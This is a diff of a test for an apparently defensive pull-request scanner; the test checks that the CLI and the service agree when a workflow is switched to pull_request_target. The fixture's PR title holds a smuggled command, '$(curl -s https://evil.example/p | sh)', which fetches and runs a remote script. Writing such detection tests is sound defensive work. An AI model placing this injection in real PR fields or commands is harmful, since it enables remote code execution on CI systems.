@@ -21,7 +21,8 @@ from prguard.store.sqlite import SQLiteStore
 from tests.support import workflows as W
 from tests.support.pr_content import changed, hunk
 from tests.support.training_data import make_prs, write_feature_set
-from tests.support.worker_fakes import FakeInstallationClient, pr_doc
+from tests.support.pull_requests import pull_request
+from tests.support.worker_fakes import FakeInstallationClient
 
 pytestmark = pytest.mark.slow
 CONFIG = TrainConfig(epochs=20, seed=11)
@@ -120,7 +121,7 @@ def test_score_cli_and_the_service_give_the_same_findings_and_verdict(workspace,
     path = ".github/workflows/preview.yml"
     base_text = W.PWN_REQUEST.replace("pull_request_target:", "pull_request:")
     patch = hunk(3, ["on:"], ["  pull_request:"], ["  pull_request_target:"])
-    doc = pr_doc(REPO, 77, head_sha=HEAD, files=[changed(path, patch)])
+    doc = pull_request(changed(path, patch), repo=REPO, number=77, head_sha=HEAD)
     doc["base"]["sha"] = BASE
     doc["title"] = "ci: previews for $(curl -s https://evil.example/p | sh)"
     source = tmp_path / "pr.jsonl"
